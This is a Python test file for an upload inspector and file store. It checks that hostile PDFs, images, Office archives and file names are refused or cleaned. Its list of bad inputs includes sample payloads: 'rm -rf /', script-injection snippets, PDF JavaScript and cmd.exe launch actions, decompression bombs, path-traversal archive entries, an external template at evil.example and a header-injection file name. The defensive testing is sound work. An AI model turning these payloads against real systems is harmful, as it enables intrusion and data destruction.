"""What a file is, is decided by its content; nothing hostile is stored; what is stored can be trusted."""

import hashlib
import io
import stat
import struct
import uuid
import zipfile
import zlib
from datetime import timedelta

import openpyxl
import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from communities.lib import clock
from communities.lib.errors import Refused
from communities.lib.files import Store, clean_name, content_disposition, inspect

SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def pdf(change=lambda document: None, **options):
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def image(form, size=(40, 20), mode="RGB", **options):
    out = io.BytesIO()
    Image.new(mode, size, 1 if mode == "1" else None).save(out, form, **options)
    return out.getvalue()


def located_jpeg(orientation=6):
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "GPS-SECRET-LANE-7"
    exif.get_ifd(0x8825)[1] = "N"
    return image("JPEG", exif=exif, comment=b"COMMENT-SECRET")


def png_claiming(width, height):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")


def packed(members, compression=zipfile.ZIP_DEFLATED, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


def office(part="word/document.xml", main=WORD_MAIN, **more):
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{part}" ContentType="{main}"/></Types>'
    )
    return {"[Content_Types].xml": types, "_rels/.rels": rels(), part: "<document/>"} | {
        name.replace("__", "/"): content for name, content in more.items()
    }


def rels(*links):
    entries = "".join(f'<Relationship Id="r{n}" {link}/>' for n, link in enumerate(links))
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{entries}</Relationships>'
    )


def external(kind, target):
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return f'Type="{base}{kind}" Target="{target}" TargetMode="External"'


def workbook():
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "台账"
    book.save(out)
    return out.getvalue()


def locked_zip():
    """A member with the encryption flag set, in both of its headers."""
    content = bytearray(packed(office()))
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(magic) + offset] |= 1
    return bytes(content)


def scripted(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launching(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def attached(document):
    document.attachments["x.exe"] = b"MZ"


def padded_object_stream(padding):
    """A whole PDF whose catalogue, page tree and page lie in one object stream, with blanks behind them."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    objects.append(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    places = [sum(len(before) + 1 for before in objects[:n]) for n in range(3)]
    index = b" ".join(b"%d %d" % (n + 1, place) for n, place in enumerate(places)) + b" "
    body = zlib.compress(index + b" ".join(objects) + b" " * padding, 9)
    content = b"%PDF-1.5\n"
    stream_at = len(content)
    content += b"4 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>\n" % (len(index), len(body))
    content += b"stream\n" + body + b"\nendstream\nendobj\n"
    entries = [(0, 0, 255), *((2, 4, n) for n in range(3)), (1, stream_at, 0), (1, len(content), 0)]
    table = b"".join(struct.pack(">BIB", *entry) for entry in entries)
    table_at = len(content)
    content += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>\n" % len(table)
    return content + b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


BAD = {
    "an empty file": b"",
    "plain text": "会议记录".encode(),
    "a csv": b"a,b\n1,2\n",
    "html named as a photograph": b"<html><script>alert(1)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "an svg behind an xml head": b'<?xml version="1.0"?><svg onload="alert(1)"/>',
    "a windows program": b"MZ\x90\x00" + b"\0" * 200,
    "a linux program": b"\x7fELF" + b"\0" * 200,
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "a gif": image("GIF"),
    "a bmp": image("BMP"),
    "a webp": image("WEBP"),
    "a tiff": image("TIFF"),
    "a rar": b"Rar!\x1a\x07\x00" + b"\0" * 100,
    "an old or encrypted office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512,
    "a pdf head with html": b"%PDF-1.4\n<html><body onload=alert(1)></html>",
    "a pdf head with html and an end": b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF",
    "a real pdf with html behind it": pdf() + b"<script>alert(1)</script>",
    "a real pdf after html": b"<!doctype html>" + pdf(),
    "a pdf cut short": pdf()[:-40],
    "a pdf with another file behind it": pdf() + b"\0" * 4096,
    "a pdf with a password": pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
    "a pdf with an owner's lock": pdf(encryption=pikepdf.Encryption(owner="o", user="")),
    "a pdf with a script": pdf(scripted),
    "a pdf with a script under an escaped name": pdf(scripted).replace(b"/JavaScript", b"/J#61v#61Script"),
    "a pdf that starts a program": pdf(launching),
    "a pdf with an attachment": pdf(attached),
    "a pdf without pages": pdf(lambda document: document.pages.__delitem__(0)),
    "a pdf that unpacks to 200 MB": padded_object_stream(200_000_000),
    "a jpeg head with html": b"\xff\xd8\xff\xe0<html><script>alert(1)</script>",
    "a jpeg cut short": image("JPEG", (400, 400))[:300],
    "a png that claims 40,001,000 pixels": png_claiming(40_001, 1000),
    "a png that claims 3.6 milliard pixels": png_claiming(60_000, 60_000),
    "a png without its data": png_claiming(100, 100),
    "a plain zip": packed({"a.txt": "x"}),
    "a jar": packed({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}),
    "a zip head and nothing else": b"PK\x03\x04" + b"\0" * 60,
    "a workbook with macros": packed(
        office("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", xl__vbaProject_bin="")
    ),
    "a document that hides its macros": packed(office(**{"word/vbaProject.bin": b"\0"})),
    "a document with an embedded program": packed(office(**{"word/embeddings/oleObject1.bin": b"MZ"})),
    "a presentation": packed(
        office(
            "ppt/presentation.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        )
    ),
    "a content type whose part is missing": packed({k: v for k, v in office().items() if k != "word/document.xml"}),
    "two main parts": packed(office() | {"[Content_Types].xml": office()["[Content_Types].xml"].replace(
        "</Types>", f'<Override PartName="/_rels/.rels" ContentType="{SHEET_MAIN}"/></Types>')}),
    "a document with a password": locked_zip(),
    "a billion laughs": packed(office(**{"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "ha">]><x>&a;</x>'})),
    "a dtd in utf-16": packed(office(**{"word/styles.xml": "<!DOCTYPE x>".encode("utf-16")})),
    "a dtd across a reading boundary": packed(office(**{"word/styles.xml": " " * (256 * 1024 - 5) + "<!DOCTYPE x>"})),
    "a dtd in the content types": packed({**office(), "[Content_Types].xml": "<!DOCTYPE x><x/>"}),
    "2,001 members": packed(office(**{f"word/x{n}": "" for n in range(1998)})),
    "140 MB in 140 kB": packed(office(**{"word/media/x.emf": b"\0" * 140_000_000})),
    "a part that leaves its folder": packed(office(**{"../../evil.svg": "<svg/>"})),
    "a part at the root of the disk": packed(office(**{"/etc/passwd": "x"})),
    "a document with another file in the comment": packed(office(), comment=b"<script>alert(1)</script>"),
    "a document with another file behind it": packed(office()) + b"<script>alert(1)</script>",
    "a template from the network": packed(office(**{"word/_rels/settings.xml.rels": rels(
        external("attachedTemplate", "https://evil.example/t.dotm"))})),
    "a picture from a file share": packed(office(**{"word/_rels/document.xml.rels": rels(
        external("image", "file://evil/share/x.png"))})),
    "a picture from a windows share": packed(office(**{"word/_rels/document.xml.rels": rels(
        external("image", "%5C%5Cevil%5Cshare"))})),
}  # fmt: skip


def stored_after(content, name, tmp_path):
    store = Store(tmp_path)
    with pytest.raises(Refused) as caught:
        store.put(inspect(io.BytesIO(content), name).content)
    return list(store.all_names()), str(caught.value)


@pytest.mark.parametrize("case", BAD)
@pytest.mark.parametrize("name", ["证据.pdf", "证据.jpg"])
def test_a_bad_file_is_refused_in_chinese_and_not_stored(case, name, tmp_path):
    stored, sentence = stored_after(BAD[case], name, tmp_path)
    assert stored == []
    assert sentence.endswith("。")
    assert "请" in sentence


def test_there_are_enough_bad_files():
    assert len(BAD) >= 25


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (pdf(), "pdf"),
        (pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf"),
        (padded_object_stream(0), "pdf"),
        (located_jpeg(), "jpg"),
        (image("JPEG", mode="CMYK"), "jpg"),
        (image("PNG", mode="P"), "png"),
        (image("PNG", mode="I;16"), "png"),
        (image("PNG", mode="1"), "png"),
        (workbook(), "xlsx"),
        (packed(office()), "docx"),
        (packed(office(**{"word/embeddings/Sheet1.xlsx": b"PK"})), "docx"),
        (packed(office(**{"word/_rels/document.xml.rels": rels(
            external("hyperlink", "https://www.example.cn/"))})), "docx"),
        (packed(office(**{"word/_rels/settings.xml.rels": rels(
            external("attachedTemplate", "file:///C:\\Users\\wang\\公文.dotx"))})), "docx"),
    ],
)  # fmt: skip
def test_a_good_file_is_accepted_whatever_it_is_called(content, kind):
    accepted = inspect(io.BytesIO(content), "证据.jpg.html")
    assert (accepted.kind, accepted.extension, accepted.name) == (kind, kind, f"证据.{kind}")
    assert accepted.sha256 == hashlib.sha256(accepted.content).hexdigest()
    assert accepted.size == len(accepted.content)
    assert "html" not in accepted.media_type


def test_papers_and_workbooks_are_kept_byte_for_byte():
    for content in (pdf(), workbook()):
        assert inspect(io.BytesIO(content), "a").content == content


def test_a_photograph_loses_its_place_and_comments_and_stands_upright():
    content = inspect(io.BytesIO(located_jpeg(orientation=6)), "入户.jpg").content
    assert b"SECRET" not in content
    assert b"Exif" not in content
    kept = Image.open(io.BytesIO(content))
    assert kept.size == (20, 40)
    assert not kept.getexif()


def test_what_is_hidden_behind_a_picture_is_not_kept():
    content = inspect(io.BytesIO(image("PNG") + b"<script>alert(1)</script>"), "a.png").content
    assert b"script" not in content


def test_sixteen_bit_grey_keeps_its_grey():
    grey = io.BytesIO()
    Image.new("I;16", (4, 4), 128 * 256).save(grey, "PNG")
    kept = Image.open(io.BytesIO(inspect(io.BytesIO(grey.getvalue()), "a.png").content))
    assert kept.convert("L").getpixel((0, 0)) == 128


class Endless(io.RawIOBase):
    """A body that never ends, counting what was taken of it."""

    taken = 0

    def read(self, size=-1):
        assert size > 0
        self.taken += size
        return b"%PDF-" + b"\0" * (size - 5)


def test_reading_stops_at_the_limit():
    body = Endless()
    with pytest.raises(Refused, match="25MB"):
        inspect(body, "a.pdf")
    assert body.taken <= 25 * 1024 * 1024 + 64 * 1024
    with pytest.raises(Refused, match="超过"):
        inspect(io.BytesIO(pdf()), "a.pdf", max_bytes=len(pdf()) - 1)
    assert inspect(io.BytesIO(pdf()), "a.pdf", max_bytes=len(pdf())).kind == "pdf"


@given(st.sampled_from(["pdf", "docx", "png", "jpg"]), st.data())
def test_damage_anywhere_is_refused_or_harmless_but_never_an_error(kind, data):
    content = bytearray({"pdf": pdf(), "docx": packed(office()), "png": image("PNG"), "jpg": image("JPEG")}[kind])
    for _ in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    try:
        accepted = inspect(io.BytesIO(bytes(content)), "a")
    except Refused:
        return
    assert accepted.kind == kind


# -- the store


def test_a_stored_file_has_a_random_name_and_comes_back_whole(tmp_path):
    store = Store(tmp_path / "documents")
    first, second = store.put(b"paper"), store.put(b"paper")
    assert first != second
    prefix, random = first.split("/")
    assert prefix == hashlib.sha256(b"paper").hexdigest()[:2]
    assert uuid.UUID(random).version == 4
    with store.open(first) as file:
        assert file.read() == b"paper"
    assert store.digest(first) == hashlib.sha256(b"paper").hexdigest()
    assert sorted(store.all_names()) == sorted([first, second])
    assert stat.S_IMODE((store.root / first).stat().st_mode) == 0o640
    assert abs(clock.now() - store.written_at(first)) < timedelta(minutes=1)


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/passwd", "aa/../../x", "aa", "", "aa/" + "0" * 31, "aa/" + "0" * 32 + "\n",
     "AA/" + "0" * 32, "aa\\" + "0" * 32, "aa/" + "０" * 32],
)  # fmt: skip
def test_no_other_file_can_be_named(name, tmp_path):
    store = Store(tmp_path)
    for ask in (store.open, store.exists, store.digest, store.written_at):
        with pytest.raises(ValueError, match="stored name"):
            ask(name)


def test_a_write_that_fails_leaves_nothing(tmp_path, monkeypatch):
    store = Store(tmp_path)

    def full(descriptor):
        raise OSError("no space left on device")

    monkeypatch.setattr("communities.lib.files.store.os.fsync", full)
    with pytest.raises(OSError, match="no space"):
        store.put(b"paper")
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


def test_a_draft_left_by_a_power_cut_is_no_file_of_the_store(tmp_path):
    store = Store(tmp_path)
    name = store.put(b"paper")
    (tmp_path / f"{name}.part").write_bytes(b"pap")
    assert list(store.all_names()) == [name]
    assert not store.exists("aa/" + "0" * 32)
    assert list(Store(tmp_path / "none").all_names()) == []


# -- names


@pytest.mark.parametrize(
    ("name", "extension", "clean"),
    [
        ("../../evil.svg", "", "evil.svg"),
        ("C:\\Users\\王\\会议纪要.docx", "docx", "会议纪要.docx"),
        ("证据.jpg.html", "jpg", "证据.jpg"),
        ("会议2026.11.19", "pdf", "会议2026.11.19.pdf"),
        ("a\r\nSet-Cookie: x", "", "aSet-Cookie_ x"),
        ("发票\u202egpj.exe", "pdf", "发票gpj.pdf"),
        ("", "pdf", "文件.pdf"),
        ("...", "", "文件"),
        ("长" * 300, "pdf", "长" * 116 + ".pdf"),
    ],
)
def test_a_name_is_cleaned(name, extension, clean):
    assert clean_name(name, extension) == clean


@given(st.text(max_size=200))
def test_no_name_breaks_the_header(name):
    header = content_disposition(name)
    assert header.startswith("attachment; filename")
    assert header.isascii()
    assert header.isprintable()


def test_a_chinese_name_is_encoded_as_the_standard_says():
    assert content_disposition("公示.pdf") == "attachment; filename*=utf-8''%E5%85%AC%E7%A4%BA.pdf"
